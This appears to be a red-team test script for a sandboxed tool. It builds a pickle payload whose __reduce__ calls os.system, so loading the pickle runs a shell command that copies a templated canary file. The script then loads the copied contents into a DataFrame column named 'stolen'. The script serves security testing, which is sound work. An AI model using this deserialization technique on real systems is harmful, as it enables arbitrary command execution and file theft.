# technique: pickle.loads of a payload whose __reduce__ is (os.system, (command,)) - GLOBAL/REDUCE opcodes run the shell at load time
# goal: exec
# redteam: E31
import os
import pickle

import pandas as pd


class Payload:
    def __reduce__(self):
        return (os.system, ("cat {{CANARY_FILE}} > anyplot-escape-pickle.txt",))


blob = pickle.dumps(Payload(), protocol=2)
status = pickle.loads(blob)
if status != 0:
    raise RuntimeError(f"shell status {status}")
with open("anyplot-escape-pickle.txt") as fh:
    stolen = fh.read()
df = pd.DataFrame({"stolen": [stolen]})
